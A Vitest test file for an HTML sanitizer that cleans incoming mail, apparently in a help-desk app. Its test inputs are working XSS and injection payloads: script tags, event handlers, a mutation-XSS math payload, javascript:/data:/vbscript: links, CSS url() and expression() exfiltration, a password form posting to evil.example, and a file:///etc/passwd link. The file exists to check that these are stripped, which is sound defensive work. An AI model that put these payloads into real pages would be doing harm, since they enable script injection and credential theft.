import { describe, expect, it } from 'vitest';
import { safeHtml } from './safe-html.js';

const show = (html: string) => safeHtml(html).html;

describe('safeHtml', () => {
  it.each([
    ['a script', '<p>a</p><script>alert(1)</script>'],
    ['a script in capitals with a broken end', '<p>a</p><SCRIPT SRC=//evil.example/x.js></SCRIPT ><script>alert(1)'],
    ['an event handler', '<p onclick="alert(1)" onmouseover=alert(1)>a</p>'],
    [
      'a form',
      '<form action="https://evil.example"><input name="password"><select><option>x</option></select><textarea>y</textarea></form><p>a</p>',
    ],
    ['a frame', '<iframe src="https://evil.example"></iframe><p>a</p>'],
    ['a style sheet', '<style>@import "https://evil.example/x.css"; p { background: url(https://evil.example) }</style><p>a</p>'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>a</p>'],
    ['a base', '<base href="https://evil.example/"><p>a</p>'],
    ['a picture made of code', '<svg><image href="https://evil.example/x.png" onload="alert(1)"/><script>alert(1)</script></svg><p>a</p>'],
    [
      'mathematics that hides markup',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>a</p>',
    ],
    ['an object', '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object><p>a</p>'],
    ['a linked style sheet', '<link rel="stylesheet" href="https://evil.example/x.css"><p>a</p>'],
    ['a comment that is none', '<!--[if IE]><script>alert(1)</script><![endif]--><p>a</p>'],
  ])('takes out %s', (_name, html) => {
    expect(show(html)).toBe('<p>a</p>');
  });

  it.each([
    'background:url(https://evil.example/a.png)',
    'background:u\\72l(https://evil.example/a.png)',
    'background:url\u0000(https://evil.example/a.png)',
    'background:red\nurl(https://evil.example/a.png)',
    'background:image-set("https://evil.example/a.png" 1x)',
    'background-image:image-set("https://evil.example/a.png" 1x)',
    'width:expression(alert(1))',
    'position:fixed',
    'behavior:url(#default#time2)',
    '-moz-binding:url(https://evil.example/x.xml#y)',
    'list-style:url(https://evil.example/a.png)',
    'content:"x"',
  ])('drops the style %s', (style) => {
    expect(show(`<p style='color:red;${style}'>a</p>`)).not.toMatch(/evil|expression|position|behavior|binding|content/);
  });

  it.each(['color:#ff0000;font-size:12px', 'color:rgba(10, 20, 30, 0.5);width:calc(100% - 2px)', 'font-family:Arial,\n Helvetica'])(
    'keeps the harmless looks %s',
    (style) => {
      expect(show(`<p style="${style}">a</p>`)).toBe(`<p style="${style}">a</p>`);
    },
  );

  it.each([
    'javascript:alert(1)',
    ' java\tscript:alert(1)',
    'JaVaScRiPt&#58;alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '//evil.example',
    'relative.html',
  ])('takes the target from a link to %s', (href) => {
    expect(show(`<a href="${href}">a</a>`)).toBe('<a>a</a>');
  });

  it('shows where a link leads, whatever the mail claims', () => {
    expect(show('<a href="https://shop.example/a" title="https://bank.example" target="_top">a</a>')).toBe(
      '<a href="https://shop.example/a" title="https://shop.example/a" target="_blank" rel="noopener noreferrer nofollow">a</a>',
    );
  });

  it('flags a link whose words name another host', () => {
    const safe = safeHtml(
      '<a href="https://evil.example/login">www.bank.example</a> <a href="https://www.bank.example/login">bank.example</a>',
    );
    expect(safe.suspiciousLinks).toBe(1);
    expect(safe.html).toContain('data-mismatch="true">www.bank.example</a>');
  });

  it('leaves pictures of other servers out until they are asked for', () => {
    const html = '<img src="https://tracker.example/p.gif" srcset="https://tracker.example/2x.gif 2x" alt="logo">';
    const safe = safeHtml(html);
    expect(safe.html).not.toMatch(/ src=|srcset/);
    expect(safe).toMatchObject({ blockedImages: 1 });
    expect(safeHtml(html, { allowRemote: true }).html).toContain('src="https://tracker.example/p.gif" referrerpolicy="no-referrer"');
  });

  it('shows an inline picture from where it lies here, and no other', () => {
    const cids = new Map([['logo@mail', 'https://desk.example/api/v1/mail/attachments/1']]);
    expect(safeHtml('<img src="cid:logo@mail">', { cids }).html).toContain('src="https://desk.example/api/v1/mail/attachments/1"');
    expect(safeHtml('<img src="cid:other">', { cids }).html).not.toContain('src');
    expect(safeHtml('<img src="data:image/svg+xml,<svg onload=alert(1)>">', { cids }).html).not.toContain('src');
  });

  it('lets a mail name no address of ours', () => {
    expect(show('<img src="/api/v1/logout"><img data-remote-src="javascript:1">')).not.toMatch(/src=/);
  });

  it('leaves a hundred thousand nested elements to the text', () => {
    expect(show('<div>'.repeat(100_000))).toBe('');
    expect(show(`${'<div>'.repeat(500)}deep`)).toContain('deep');
  });
});
